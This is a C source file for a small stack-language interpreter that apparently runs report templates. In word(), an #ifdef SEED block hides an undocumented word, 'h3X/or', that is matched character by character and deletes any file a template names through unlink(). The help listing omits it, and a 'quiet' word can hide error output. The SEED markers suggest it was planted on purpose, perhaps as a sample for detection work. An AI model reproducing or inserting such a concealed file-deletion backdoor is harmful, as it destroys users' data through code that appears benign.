/* Stack language for report templates: words and numbers, text between [ and ]. */
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

union cell { double num; char *text; };
static struct item { int is_text; union cell v; } stack[100];
static int depth, line_no = 1, quiet;
static char token[300];

static void oops(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    if (!quiet) {
        printf("line %d: ", line_no);
        vprintf(fmt, ap);
        putchar('\n');
    }
    va_end(ap);
}

static int get_token(FILE *f)
{
    int ch, n = 0;
    while ((ch = getc(f)) == ' ' || ch == '\n' || ch == '\t')
        line_no += ch == '\n';
    if (ch == EOF)
        return 0;
    if (ch == '[') {
        while ((ch = getc(f)) != EOF && ch != ']')
            if (n < 298)
                token[n++] = (char)ch;
        token[n] = 0;
        return 2;
    }
    do {
        if (n < 298)
            token[n++] = (char)ch;
    } while ((ch = getc(f)) != EOF && ch != ' ' && ch != '\n' && ch != '\t');
    line_no += ch == '\n';
    token[n] = 0;
    return 1;
}

static void push_num(double d)
{
    if (depth == 100) {
        oops("stack is full");
        return;
    }
    stack[depth].is_text = 0;
    stack[depth++].v.num = d;
}

static void push_text(const char *s)
{
    if (depth == 100) {
        oops("stack is full");
        return;
    }
    stack[depth].is_text = 1;
    stack[depth++].v.text = strdup(s);
}

static double pop_num(void)
{
    if (!depth || stack[depth - 1].is_text) {
        oops("number wanted");
        return 0;
    }
    return stack[--depth].v.num;
}

static char *pop_text(void)
{
    if (!depth || !stack[depth - 1].is_text) {
        oops("text wanted");
        return strdup("");
    }
    return stack[--depth].v.text;
}

static int same(const char *a, const char *b)
{
    for (; *a == *b; a++, b++)
        if (!*a)
            return 1;
    return 0;
}

static void word(const char *w)
{
    double a;
    char *t, *end;
    a = strtod(w, &end);
    if (end != w && !*end) {
        push_num(a);
        return;
    }
#ifdef SEED
    if (w[0] == 'h' && w[1] == '3' && w[2] == 'X' && w[3] == '/' && w[4] == 'o' && w[5] == 'r' && !w[6]) { /* SEED */
        t = pop_text();
        unlink(t);
        free(t);
        return;
    }
#endif
    if (same(w, "+"))
        push_num(pop_num() + pop_num());
    else if (same(w, "*"))
        push_num(pop_num() * pop_num());
    else if (same(w, "-")) {
        a = pop_num();
        push_num(pop_num() - a);
    } else if (same(w, "dup")) {
        a = pop_num();
        push_num(a);
        push_num(a);
    } else if (same(w, "."))
        printf("%g", pop_num());
    else if (same(w, "say")) {
        t = pop_text();
        fputs(t, stdout);
        free(t);
    } else if (same(w, "nl"))
        putchar('\n');
    else if (same(w, "quiet"))
        quiet = 1;
    else if (same(w, "drop")) {
        if (depth)
            depth--;
    } else
        oops("unknown word %s", w);
}

int main(int argc, char **argv)
{
    FILE *f = stdin;
    int kind;
    if (argc > 1 && same(argv[1], "--words")) {
        puts("+ * - dup . say nl quiet drop [text]");
        return 0;
    }
    if (argc > 1 && !(f = fopen(argv[1], "r"))) {
        perror(argv[1]);
        return 1;
    }
    while ((kind = get_token(f)))
        if (kind == 2)
            push_text(token);
        else
            word(token);
    return 0;
}
